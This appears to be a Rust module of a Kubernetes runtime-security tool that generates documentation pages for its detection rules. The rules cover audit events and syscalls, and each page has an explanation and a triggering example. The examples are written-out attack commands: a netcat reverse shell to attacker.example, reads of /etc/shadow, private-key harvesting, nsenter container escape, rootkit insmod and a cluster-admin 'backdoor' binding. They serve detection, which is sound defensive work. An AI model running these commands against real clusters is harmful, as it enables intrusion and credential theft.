//! Documentation pages of the built-in rules (audit and syscall), generated from the rule files (name,
//! description, priority, tags, condition, the macros and lists it uses) and the explanations
//! below. `docs/runtime-rules/` in the repository is this output; a test keeps it current.

use std::collections::BTreeSet;
use std::fmt::Write;

use crate::loader::RuleInfo;

use super::{loader, rule_id, syscall_loader};
use crate::loader::RuleLoader;

/// What a page says beyond the rule file.
#[derive(Debug, Clone, Copy)]
pub struct RuleDoc {
    /// The rule id (`KSO-Annn` or `KSO-Ynnn`, the rule's tag).
    pub id: &'static str,
    /// Why the event matters to a defender.
    pub why: &'static str,
    /// An action that triggers the rule.
    pub example: &'static str,
    /// What to check when it fires, and how to tune it.
    pub response: &'static str,
}

/// The explanations, one per built-in rule.
pub const RULE_DOCS: &[RuleDoc] = &[
    RuleDoc {
        id: "KSO-A001",
        why: "An exec or attach session gives a shell inside a running workload, with its service \
              account token, its mounted secrets and its network position. Attackers holding \
              stolen credentials use it to move into workloads, and operators using it in \
              production bypass the deployment pipeline.",
        example: "kubectl exec -it -n payments deploy/api -- sh",
        response: "Check that the user was expected to debug this workload and what command ran \
                   (`command=` in the output, from the request URI). Prefer ephemeral debug \
                   containers and record who may exec with RBAC on `pods/exec` and `pods/attach`. \
                   Silence trusted automation with an exception on `ka.user.name` and \
                   `ka.target.namespace`.",
    },
    RuleDoc {
        id: "KSO-A002",
        why: "A port-forward opens a tunnel from the client's machine to any port of the pod, \
              bypassing Services, Ingresses and NetworkPolicies that only filter traffic inside \
              the cluster. It reaches admin ports and databases that were never meant to be exposed.",
        example: "kubectl port-forward -n data pod/postgres-0 5432:5432",
        response: "Confirm the user and the ports (`ports=` in the output). Restrict `create` on \
                   `pods/portforward` to the few roles that need it.",
    },
    RuleDoc {
        id: "KSO-A003",
        why: "Secrets hold credentials: database passwords, cloud keys, registry credentials and \
              tokens. Reading them outside the control plane is the usual step after an initial \
              foothold (MITRE ATT&CK T1552.007, container API). A `list` or `watch` returns every \
              Secret of the namespace at once.",
        example: "kubectl get secret -n payments db-credentials -o yaml",
        response: "Find out why the subject read the Secret; rotate it when the read was not \
                   expected. Applications that read their own Secrets through the API (operators, \
                   cert managers) belong in the list `kso_secret_reading_components` (append to it \
                   in your own rules file) or in an exception on `ka.user.name`.",
    },
    RuleDoc {
        id: "KSO-A004",
        why: "A privileged container has every capability and every device of the node; escaping \
              to the node from it takes one mount or one kernel module (MITRE ATT&CK T1611). \
              Creating one is how an attacker with pod-create rights turns them into node root.",
        example: "kubectl run -n e2e debug --image=busybox \
                  --overrides='{\"spec\":{\"containers\":[{\"name\":\"debug\",\"image\":\"busybox\",\
                  \"securityContext\":{\"privileged\":true}}]}}'",
        response: "Check who created the pod and why it needs privileges; enforce the Pod Security \
                   Standards `baseline` level on the namespace to refuse such pods. Pods of \
                   `kube-system` are excepted (node agents); add namespaces to the rule's \
                   `host_access_namespaces` exception to trust more.",
    },
    RuleDoc {
        id: "KSO-A005",
        why: "A hostPath volume exposes the node's filesystem to the container: `/` or `/etc` give \
              node root, `/var/run/containerd` the container runtime, `/var/lib/kubelet` every \
              pod's secrets.",
        example: "a Pod with `volumes: [{name: host, hostPath: {path: /}}]`",
        response: "Check the mounted paths in the output. Replace hostPath volumes with \
                   PersistentVolumes, ConfigMaps or CSI drivers, and enforce the Pod Security \
                   Standards `baseline` level, which refuses hostPath volumes.",
    },
    RuleDoc {
        id: "KSO-A006",
        why: "cluster-admin can do anything on every resource of every namespace. A new binding to \
              it is the classic persistence and privilege-escalation step after a compromise \
              (MITRE ATT&CK T1078, valid accounts).",
        example: "kubectl create clusterrolebinding backdoor --clusterrole=cluster-admin \
                  --serviceaccount=default:default",
        response: "Verify the binding's subjects (in the output) and remove the binding unless a \
                   reviewed change asked for it. Grant narrower roles instead.",
    },
    RuleDoc {
        id: "KSO-A007",
        why: "With anonymous authentication on, any client that reaches the API server is \
              `system:anonymous`. A binding that grants that user or the \
              `system:unauthenticated` group more than health and discovery endpoints opens the \
              cluster to the network (MITRE ATT&CK T1190).",
        example: "curl -k https://api.example:6443/api/v1/namespaces/default/pods (after a \
                  RoleBinding to system:anonymous)",
        response: "Find and remove the binding that allowed it (`reason=` in the output names it), \
                   or turn anonymous authentication off (`--anonymous-auth=false`).",
    },
    RuleDoc {
        id: "KSO-A008",
        why: "A TokenRequest mints a fresh, valid token for a service account: whoever holds it acts \
              with that account's rights, from anywhere, until the token expires (MITRE ATT&CK \
              T1528). The kubelet and the controller manager do this all day; people rarely.",
        example: "kubectl create token -n kube-system deployment-controller --duration=8760h",
        response: "Check which account the token was for and who asked. Restrict `create` on \
                   `serviceaccounts/token`; trusted automation can be added to \
                   `kso_token_requesting_components`.",
    },
    RuleDoc {
        id: "KSO-A009",
        why: "NetworkPolicies are what keeps a compromised pod from reaching the rest of the \
              cluster. Deleting one silently opens every path it closed (MITRE ATT&CK T1562, \
              impair defenses).",
        example: "kubectl delete networkpolicy -n payments default-deny",
        response: "Check whether the deletion was part of a reviewed change; restore the policy \
                   from version control otherwise.",
    },
    RuleDoc {
        id: "KSO-A010",
        why: "Audit configuration decides what the cluster records. Removing it (a dynamic audit \
              sink, a policy object, or the ConfigMap a managed setup loads the audit policy \
              from) blinds detection before the next steps of an attack (MITRE ATT&CK \
              T1562.008, disable cloud logs).",
        example: "kubectl delete configmap -n kube-system audit-policy",
        response: "Restore the configuration and find out who deleted it. Only cluster \
                   administrators should have `delete` on these objects.",
    },
    RuleDoc {
        id: "KSO-A011",
        why: "An ephemeral container joins a running pod with an image of the requester's choice, \
              sharing the pod's network and, with process-namespace sharing, its processes. It \
              bypasses the image and security review of the pod's own containers.",
        example: "kubectl debug -n payments pod/api-0 -it --image=busybox --target=api",
        response: "Check the image (in the output) and the reason for debugging; restrict \
                   `update`/`patch` on `pods/ephemeralcontainers`.",
    },
    RuleDoc {
        id: "KSO-Y001",
        why: "Password hashes in /etc/shadow can be cracked offline and sudoers shows who can become root. Outside the account tools, a read of these files is credential access (MITRE ATT&CK T1003.008), often the first thing an intruder does after landing in a container that runs as root.",
        example: "kubectl exec -n shop deploy/cart -- cat /etc/shadow",
        response: "Look at the command line and the parent: a shell started by `kubectl exec` or by a web server process is suspect. Add legitimate readers to the list `kso_credential_readers` in your own rules file (`append: true`).",
    },
    RuleDoc {
        id: "KSO-Y002",
        why: "Containers are meant to run one program without a human. A shell with a terminal means someone typed `kubectl exec -it` (debugging in production) or an attacker with credentials or a remote-code-execution bug opened one.",
        example: "kubectl exec -it -n shop deploy/cart -- sh",
        response: "Match the time with the API server's audit log (rule KSO-A001 reports the exec with the user). Prefer ephemeral debug containers, and restrict `pods/exec` with RBAC.",
    },
    RuleDoc {
        id: "KSO-Y003",
        why: "`nc -e` connects a program, usually a shell, to a network peer: a reverse or bind shell in one command (MITRE ATT&CK T1059). Images rarely need netcat at all, and never with these options in normal operation.",
        example: "nc attacker.example 4444 -e /bin/sh",
        response: "Treat it as an intrusion: find the peer (a connect event from the same process), the parent that started netcat, and how it got there. Remove netcat from images that do not need it.",
    },
    RuleDoc {
        id: "KSO-Y004",
        why: "Private keys and SSH key files are what an intruder harvests to move on to other hosts and services (MITRE ATT&CK T1552.004). Grepping a file system for `BEGIN ... PRIVATE KEY` headers is the usual way.",
        example: "grep -r \"BEGIN RSA PRIVATE\" /",
        response: "Check the parent and the container. Rotate keys stored where the search ran. Build scripts that search for keys on purpose can be excepted by process or container image.",
    },
    RuleDoc {
        id: "KSO-Y005",
        why: "/dev/shm is a writable memory file system in every container; payloads staged there leave no file on the image's layers and survive container restarts while the pod lives. Legitimate programs are not installed there.",
        example: "cp /tmp/payload /dev/shm/x && /dev/shm/x",
        response: "Collect the binary (`/proc/PID/exe` while it runs) and find how it was written. Mount /dev/shm with `noexec` where the platform allows it.",
    },
    RuleDoc {
        id: "KSO-Y006",
        why: "A program executed from a memfd never exists as a file: no file scanner or image scan can see it (MITRE ATT&CK T1620, reflective code loading). Malware droppers use it to run payloads downloaded straight into memory.",
        example: "a program that calls memfd_create, writes an ELF into it and runs fexecve on it",
        response: "Treat it as an intrusion unless the program is known to do this (runc re-executes itself this way and is excepted): dump the process memory and find its parent. Add known runners to `kso_memfd_runners`.",
    },
    RuleDoc {
        id: "KSO-Y007",
        why: "Kernel modules run with full kernel privileges; loading one after boot is how rootkits install themselves (MITRE ATT&CK T1547.006). On a Kubernetes node, modules are loaded by the node's own tooling at boot, not by workloads.",
        example: "insmod /tmp/rootkit.ko",
        response: "Find which module was loaded (`lsmod`, `dmesg`) and who ran the loader. Nodes that never load modules can disable loading (`kernel.modules_disabled=1`). On kernels built without module support there is nothing to watch and the sensor says so at start.",
    },
    RuleDoc {
        id: "KSO-Y008",
        why: "ptrace lets a process read and write another process's memory and registers: code injection, credential theft from memory, or escaping a sandbox through a privileged neighbour (MITRE ATT&CK T1055.008).",
        example: "gdb -p 1234, or strace -p 1234",
        response: "Check whether a debugger session was expected. Containers do not need `CAP_SYS_PTRACE`; drop it, and keep `kernel.yama.ptrace_scope` at 1 or more on nodes.",
    },
    RuleDoc {
        id: "KSO-Y009",
        why: "setns and unshare change which namespaces a process sees. Entering the host's namespaces from a container (for example through a host PID namespace and `nsenter -t 1`) is a container escape (MITRE ATT&CK T1611).",
        example: "nsenter -t 1 -m -u -i -n sh   (from a privileged container with hostPID)",
        response: "Check the container's privileges (hostPID, privileged, capabilities) and whether the program is a known container tool; add those to `kso_container_runtimes`.",
    },
    RuleDoc {
        id: "KSO-Y010",
        why: "The bpf system call loads programs into the kernel that can watch or change the whole node. A container able to do it holds `CAP_BPF` or `CAP_SYS_ADMIN`: effectively node root (MITRE ATT&CK T1611).",
        example: "bpftool prog load ./probe.o /sys/fs/bpf/probe   (inside a privileged container)",
        response: "Only node agents (CNI plugins, observability and security agents) should do this; except their images by `container.image.repository` and remove the capability elsewhere.",
    },
    RuleDoc {
        id: "KSO-Y011",
        why: "A link to /etc/shadow or /etc/sudoers gives a second path to the file that rules and file integrity monitors watching the real path do not see, for reading hashes or for writing a new root entry.",
        example: "ln -s /etc/shadow /tmp/notes.txt",
        response: "Remove the link and find what created it. A program that links credential files on purpose is rare enough to except by name.",
    },
    RuleDoc {
        id: "KSO-Y012",
        why: "Mounting a file system from a container, such as the host's disk device or the cgroup file system, is a common escape from privileged containers (MITRE ATT&CK T1611): the release_agent trick and host disk access both start with a mount.",
        example: "mount /dev/vda1 /mnt   (inside a privileged container)",
        response: "Containers should not have `CAP_SYS_ADMIN` or be privileged; enforce the Pod Security Standards `baseline` level. Add container tools that mount on purpose to `kso_container_runtimes`.",
    },
];

/// The explanations of a rule id.
pub fn rule_doc(id: &str) -> Option<&'static RuleDoc> {
    RULE_DOCS.iter().find(|d| d.id == id)
}

/// A built-in rule file: where it lives in the repository and its loader.
struct Family {
    path: &'static str,
    loader: fn() -> RuleLoader,
}

/// The built-in rule files, audit rules first.
const FAMILIES: [Family; 2] = [
    Family { path: "crates/runtime/src/builtin/kubesecops_audit_rules.yaml", loader },
    Family { path: "crates/runtime/src/builtin/kubesecops_syscall_rules.yaml", loader: syscall_loader },
];

/// The built-in rules as collected from the rule files, in file order, with their ids and
/// the file each comes from.
fn rules() -> Vec<(String, RuleInfo, &'static Family)> {
    let mut out = Vec::new();
    for family in &FAMILIES {
        let loader = (family.loader)();
        for rule in &loader.rules.items {
            let id = rule_id(rule.tags.iter()).unwrap_or("(no id)").to_string();
            out.push((id, rule.clone(), family));
        }
    }
    out
}

/// Names in a condition: runs of letters, digits, `_`, `.` and `-`.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-')))
        .filter(|w| !w.is_empty())
}

/// The page of one rule.
fn rule_page(id: &str, rule: &RuleInfo, family: &Family) -> String {
    let loader = (family.loader)();
    let doc = rule_doc(id);
    let mut page = format!("# {id}: {}\n\n", rule.name);
    page.push_str("| | |\n|---|---|\n");
    let _ = writeln!(page, "| Priority | {} |", rule.priority.as_str().to_ascii_uppercase());
    let _ = writeln!(page, "| Source | {} |", rule.source);
    let tags: Vec<&str> = rule.tags.iter().map(String::as_str).filter(|t| *t != id).collect();
    let _ = writeln!(page, "| Tags | {} |", tags.join(", "));
    let mitre: Vec<&str> = tags.iter().copied().filter(|t| t.starts_with('T')).collect();
    let _ = writeln!(
        page,
        "| MITRE ATT&CK | {} |",
        if mitre.is_empty() { "none".into() } else { mitre.join(", ") }
    );
    let _ = writeln!(page, "| Rule file | `{}` |\n", family.path);
    let _ = writeln!(page, "## What it detects\n{}\n", one_line(&rule.desc));
    if let Some(doc) = doc {
        let _ = writeln!(page, "## Why it matters\n{}\n", one_line(doc.why));
        let _ = writeln!(page, "## Example\n```sh\n{}\n```\n", one_line(doc.example));
    }
    let _ = writeln!(page, "## Condition\n```\n{}\n```\n", rule.condition.trim());
    // The macros and lists the condition uses, directly or through macros, in file order.
    let mut used = BTreeSet::new();
    let mut pending: Vec<String> = words(&rule.condition).map(str::to_string).collect();
    for exception in &rule.exceptions {
        pending.push(exception.name.clone());
    }
    while let Some(word) = pending.pop() {
        if let Some(m) = loader.macros.get(&word) {
            if used.insert(word.clone()) {
                pending.extend(words(&m.condition).map(str::to_string));
            }
        } else if loader.lists.get(&word).is_some() {
            used.insert(word);
        }
    }
    let macros: Vec<_> = loader.macros.items.iter().filter(|m| used.contains(&m.name)).collect();
    let lists: Vec<_> = loader.lists.items.iter().filter(|l| used.contains(&l.name)).collect();
    if !macros.is_empty() || !lists.is_empty() {
        page.push_str("Macros and lists it uses:\n```\n");
        for m in macros {
            let _ = writeln!(page, "{}: {}", m.name, one_line(&m.condition));
        }
        for l in lists {
            let _ = writeln!(page, "{}: [{}]", l.name, l.items.join(", "));
        }
        page.push_str("```\n\n");
    }
    if !rule.exceptions.is_empty() {
        page.push_str("Exceptions (extend them with `append: true` on the rule in your own file):\n");
        for exception in &rule.exceptions {
            let _ = writeln!(page, "- `{}`", exception.name);
        }
        page.push('\n');
    }
    let _ = writeln!(page, "## Output\n```\n{}\n```\n", one_line(&rule.output));
    if let Some(doc) = doc {
        let _ = writeln!(page, "## Response and tuning\n{}", one_line(doc.response));
    }
    page
}

/// Folds whitespace runs (YAML folded scalars, continued Rust strings) to single spaces.
fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The index page listing every built-in rule.
fn index_page(rules: &[(String, RuleInfo, &'static Family)]) -> String {
    let mut page = String::from(
        "# Built-in runtime rules\n\nGenerated from `crates/runtime/src/builtin/`; do not edit by hand \
         (`KUBESECOPS_UPDATE_DOCS=1 cargo test -p kubesecops-runtime builtin` rewrites these pages).\n\n\
         Two Falco rule files: the `KSO-A` rules (source `k8s_audit`) are what `kubesecops runtime \
         replay` and `kubesecops runtime serve` use on audit events when no `--rules` file is given; \
         the `KSO-Y` rules (source `syscall`) are what `kubesecops runtime sensor` and `runtime replay \
         --source syscall` use. Tune them with rule files of your own loaded after them.\n\n\
         | Id | Rule | Priority | Tags |\n|---|---|---|---|\n",
    );
    for (id, rule, _) in rules {
        let tags: Vec<&str> = rule.tags.iter().map(String::as_str).filter(|t| t != id).collect();
        let _ = writeln!(
            page,
            "| [{id}]({id}.md) | {} | {} | {} |",
            rule.name,
            rule.priority.as_str().to_ascii_uppercase(),
            tags.join(", ")
        );
    }
    page
}

/// Every generated page as (file name, content): `README.md` and one `KSO-Annn.md` or
/// `KSO-Ynnn.md` per rule.
pub fn all_pages() -> Vec<(String, String)> {
    let rules = rules();
    let mut pages = vec![("README.md".to_string(), index_page(&rules))];
    pages.extend(rules.iter().map(|(id, rule, family)| (format!("{id}.md"), rule_page(id, rule, family))));
    pages
}
